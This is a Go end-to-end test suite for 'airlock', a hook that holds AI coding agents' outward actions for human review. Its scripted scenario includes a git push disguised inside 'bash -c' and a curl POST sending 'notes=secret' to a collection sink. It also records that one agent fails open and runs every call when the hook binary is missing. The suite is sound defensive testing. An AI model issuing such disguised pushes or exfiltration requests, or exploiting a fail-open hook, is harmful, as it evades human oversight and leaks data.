package agents

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/e2e/fakemodel"
)

// calls is the scenario every tier runs: one local write, then three
// outward actions, two of them pushes in disguise.
type calls struct {
	local, push, disguised, post string
}

func scenario(w *world) calls {
	return calls{
		local:     "echo local > local.txt",
		push:      "git push origin main",
		disguised: `bash -c "git -C . push origin main:refs/heads/disguised"`,
		post:      "curl -s -X POST " + w.sink.srv.URL + "/collect -d notes=secret",
	}
}

func (c calls) script() []string { return []string{c.local, c.push, c.disguised, c.post} }

const prompt = "Write local.txt, then publish the work."

// TestAgents runs every agent CLI through its scenarios, one CLI process
// per scenario, one after another (the machine has few cores and each
// run starts a large Node or native program).
func TestAgents(t *testing.T) {
	airlock := buildAirlock(t, t.TempDir())
	for _, c := range clis {
		t.Run(c.name, func(t *testing.T) {
			bin := tool(t, c.envVar, false)
			t.Run("guarded", func(t *testing.T) { testGuarded(t, c, bin, airlock) })
			t.Run("hook-missing", func(t *testing.T) { testHookMissing(t, c, bin, airlock) })
			if c.loop {
				t.Run("loop", func(t *testing.T) { testLoop(t, c, bin, airlock) })
			}
			t.Run("control-without-airlock", func(t *testing.T) { testControl(t, c, bin) })
		})
	}
}

// testControl runs the scenario with no hook: every call executes, so the
// guarded scenarios' assertions are not vacuous.
func testControl(t *testing.T, c cli, bin string) {
	w := newWorld(t)
	calls := scenario(w)
	api := fakemodel.New(t, calls.script())
	argv, env := c.prepare(t, w, api, bin, prompt)
	r := w.runAgent(api, env, argv...)
	if r.err != nil {
		t.Logf("%s exited: %v\nstderr: %s", c.name, r.err, tail(r.stderr, 2000))
	}
	if got := len(api.Results()); got != 4 {
		t.Errorf("the model got %d tool results, want 4 (one per scripted call)\nstdout: %s\nstderr: %s", got, tail(r.stdout, 3000), tail(r.stderr, 3000))
	}
	if b, err := os.ReadFile(filepath.Join(w.project, "local.txt")); err != nil || strings.TrimSpace(string(b)) != "local" {
		t.Errorf("the local write did not happen: %q, %v", b, err)
	}
	refs := w.remoteRefs()
	if refs["refs/heads/main"] != w.head {
		t.Errorf("git push origin main did not land: remote main %s, want %s", refs["refs/heads/main"], w.head)
	}
	if refs["refs/heads/disguised"] != w.head {
		t.Errorf("the disguised push did not land: remote refs %v", refs)
	}
	if got := w.sink.requests(); !slices.Contains(got, "POST /collect") {
		t.Errorf("the sink got %q, want the POST /collect", got)
	}
}

// queueItem is the part of an `airlock queue list --json` item the tests
// read.
type queueItem struct {
	ID       string `json:"id"`
	Status   string `json:"status"`
	Decision string `json:"decision"`
	Mode     string `json:"mode"`
	Command  string `json:"command"`
}

// queue returns the world's review queue by command.
func queue(t *testing.T, w *world, airlock string) map[string]queueItem {
	t.Helper()
	out, err := w.run(nil, airlock, "queue", "list", "--json")
	if err != nil {
		t.Fatalf("airlock queue list --json: %v\n%s", err, out)
	}
	var items []queueItem
	if err := json.Unmarshal([]byte(out), &items); err != nil {
		t.Fatalf("airlock queue list --json: %v\n%s", err, out)
	}
	byCmd := map[string]queueItem{}
	for _, it := range items {
		byCmd[it.Command] = it
	}
	return byCmd
}

// install runs `airlock install AGENT` (user scope) into the world, with
// the agent's own environment (CODEX_HOME), as a user would.
func install(t *testing.T, w *world, c cli, airlock string, env []string) {
	t.Helper()
	out, err := w.run(env, airlock, "install", c.name)
	if err != nil {
		t.Fatalf("airlock install %s: %v\n%s", c.name, err, out)
	}
	// buildAirlock put airlock-hook beside airlock: the hook goes through
	// the resident service. The hook-missing scenario's lone copy has no
	// client beside it: install writes the in-process line and says so.
	_, err = os.Stat(filepath.Join(filepath.Dir(airlock), "airlock-hook"))
	if fast := strings.Contains(out, "resident decision service"); fast != (err == nil) {
		t.Fatalf("client beside airlock: %v; airlock install %s wrote its line: %v\n%s", err == nil, c.name, fast, out)
	}
}

// testGuarded runs the scenario with airlock as the agent's pre-tool hook
// in unattended mode: the local write goes through; both pushes and the
// POST are held, so the remote and the sink are untouched, each is a
// pending item of the review queue, and the model was told its queue id.
func testGuarded(t *testing.T, c cli, bin, airlock string) {
	w := newWorld(t)
	calls := scenario(w)
	api := fakemodel.New(t, calls.script())
	argv, env := c.prepare(t, w, api, bin, prompt)
	install(t, w, c, airlock, env)
	r := w.runAgent(api, append(env, "AIRLOCK_MODE=unattended"), argv...)
	if r.err != nil {
		t.Logf("%s exited: %v\nstderr: %s", c.name, r.err, tail(r.stderr, 2000))
	}
	if got := len(api.Results()); got != 4 {
		t.Errorf("the model got %d tool results, want 4 (one per scripted call)\nstdout: %s\nstderr: %s", got, tail(r.stdout, 3000), tail(r.stderr, 3000))
	}
	if b, err := os.ReadFile(filepath.Join(w.project, "local.txt")); err != nil || strings.TrimSpace(string(b)) != "local" {
		t.Errorf("the local write did not happen: %q, %v", b, err)
	}
	if refs := w.remoteRefs(); len(refs) != 1 || refs["refs/heads/main"] != w.base {
		t.Errorf("the bare remote changed: %v, want only refs/heads/main at %s", refs, w.base)
	}
	if got := w.sink.requests(); len(got) != 0 {
		t.Errorf("the sink got %q, want nothing", got)
	}
	items := queue(t, w, airlock)
	for _, held := range []string{calls.push, calls.disguised, calls.post} {
		it, ok := items[held]
		if !ok {
			t.Errorf("%q: not in the review queue (%d items: %v)", held, len(items), items)
			continue
		}
		if it.Status != "pending" || it.Decision != "defer" || it.Mode != "unattended" {
			t.Errorf("%q: queue item %+v, want pending defer in unattended mode", held, it)
		}
		if res, ok := api.ResultFor(held); !ok || !strings.Contains(res.Text, it.ID) {
			t.Errorf("%q: the model was not told the queue id %s: %.400s", held, it.ID, res.Text)
		}
	}
	if _, ok := items[calls.local]; ok {
		t.Errorf("the local write was queued")
	}
}

// testHookMissing configures the hook, then deletes the airlock binary it
// names, as an uninstall by hand or a moved binary would. What happens
// next is the agent's choice, recorded in docs/E2E.md. Copilot refuses a
// call whose hook cannot run; Gemini blocks on the shell's exit status 127
// (any status from 2 up blocks there, only 1 is a warning); OpenCode's
// plugin refuses when its command fails: nothing runs. Codex treats the
// failure as a warning and runs every call, which is why `airlock doctor`
// has to check that the binary is there: the test checks that it does.
func testHookMissing(t *testing.T, c cli, bin, airlock string) {
	w := newWorld(t)
	calls := scenario(w)
	api := fakemodel.New(t, calls.script())
	argv, env := c.prepare(t, w, api, bin, prompt)
	gone := filepath.Join(w.root, "bin", "airlock")
	b, err := os.ReadFile(airlock)
	if err != nil {
		t.Fatal(err)
	}
	w.writeFile(gone, string(b))
	if err := os.Chmod(gone, 0o755); err != nil {
		t.Fatal(err)
	}
	install(t, w, c, gone, env)
	if err := os.Remove(gone); err != nil {
		t.Fatal(err)
	}
	r := w.runAgent(api, append(env, "AIRLOCK_MODE=unattended"), argv...)
	if r.err != nil {
		t.Logf("%s exited: %v\nstderr: %s", c.name, r.err, tail(r.stderr, 2000))
	}
	if got := len(api.Results()); got != 4 {
		t.Errorf("the model got %d tool results, want 4 (one per scripted call)\nstdout: %s\nstderr: %s", got, tail(r.stdout, 3000), tail(r.stderr, 3000))
	}
	_, err = os.Stat(filepath.Join(w.project, "local.txt"))
	ran := err == nil
	refs := w.remoteRefs()
	pushed := refs["refs/heads/main"] != w.base || refs["refs/heads/disguised"] != ""
	posted := slices.Contains(w.sink.requests(), "POST /collect")
	for _, res := range api.Results() {
		t.Logf("tool result %d (%s): %.300s", res.Turn, res.Command, res.Text)
	}
	// Whatever the agent does, airlock doctor (a binary that is there)
	// must name the missing one and say how to fix it.
	out, err := w.run(env, airlock, "doctor")
	if err == nil || !strings.Contains(out, gone+", which does not exist") || !strings.Contains(out, "fix: airlock install "+c.name) {
		t.Errorf("airlock doctor (%v) did not report the missing hook binary %s with its fix:\n%s", err, gone, tail(out, 3000))
	}
	if c.failsOpen {
		if !ran || !pushed || !posted {
			t.Errorf("%s was observed to run every call when its hook cannot start (fail open); now local ran=%v, pushed=%v, posted=%v: update docs/E2E.md and this test",
				c.name, ran, pushed, posted)
		}
		return
	}
	if ran || pushed || posted {
		t.Errorf("with its hook binary missing, %s ran calls: local ran=%v, pushed=%v (remote %v), posted=%v; it must refuse them", c.name, ran, pushed, refs, posted)
	}
}

// testLoop runs `airlock loop --agent NAME` with one story, the agent CLI
// found on PATH under its own name, as a user would have it: the loop's
// preset command runs the real CLI non-interactively, the hook installed
// by `airlock install` holds the outward calls under the story's id, and
// the loop reports them.
func testLoop(t *testing.T, c cli, bin, airlock string) {
	w := newWorld(t)
	calls := scenario(w)
	api := fakemodel.New(t, calls.script())
	_, env := c.prepare(t, w, api, bin, prompt)
	install(t, w, c, airlock, env)
	pathDir := filepath.Join(w.root, "path")
	if err := os.MkdirAll(pathDir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(bin, filepath.Join(pathDir, c.name)); err != nil {
		t.Fatal(err)
	}
	stories := filepath.Join(w.root, "stories.json")
	w.writeFile(stories, `[{"id": "publish", "title": "write and publish", "prompt": "`+prompt+`"}]`)
	out := filepath.Join(w.root, "runs")
	env = append(env, "PATH="+pathDir+string(os.PathListSeparator)+os.Getenv("PATH"))
	r := w.runAgent(api, env, airlock, "loop", "--agent", c.name, "--stories", stories, "--out", out, "--cwd", w.project)
	if r.err == nil {
		t.Errorf("airlock loop exited 0, want 1 (held calls await review)\n%s\n%s", r.stdout, r.stderr)
	}
	if b, err := os.ReadFile(filepath.Join(w.project, "local.txt")); err != nil || strings.TrimSpace(string(b)) != "local" {
		t.Errorf("the story's local write did not happen: %q, %v\n%s\n%s", b, err, r.stdout, r.stderr)
	}
	if refs := w.remoteRefs(); len(refs) != 1 || refs["refs/heads/main"] != w.base {
		t.Errorf("the bare remote changed: %v", refs)
	}
	if got := w.sink.requests(); len(got) != 0 {
		t.Errorf("the sink got %q, want nothing", got)
	}
	var items []struct {
		ID, Command, Story, Status string
	}
	qout, err := w.run(nil, airlock, "queue", "list", "--json")
	if err != nil || json.Unmarshal([]byte(qout), &items) != nil {
		t.Fatalf("airlock queue list --json: %v\n%s", err, qout)
	}
	held := map[string]string{}
	for _, it := range items {
		held[it.Command] = it.Story
		if !strings.Contains(r.stdout, it.ID) {
			t.Errorf("the loop's report does not name queue item %s (%s)", it.ID, it.Command)
		}
	}
	for _, cmd := range []string{calls.push, calls.disguised, calls.post} {
		if held[cmd] != "publish" {
			t.Errorf("%q: queued with story %q, want publish (queue %v)", cmd, held[cmd], held)
		}
	}
	// The local write ran: the story is done, not "blocked", though the
	// agent reports no post-tool event.
	if !strings.Contains(r.stdout, "Story #publish done") {
		t.Errorf("the loop's summary does not say the story is done:\n%s", tail(r.stdout, 2000))
	}
	if _, err := os.Stat(filepath.Join(out, "publish.out")); err != nil {
		t.Errorf("the story's output was not kept: %v", err)
	}
	t.Logf("airlock loop --agent %s:\n%s", c.name, tail(r.stdout, 2000))
}
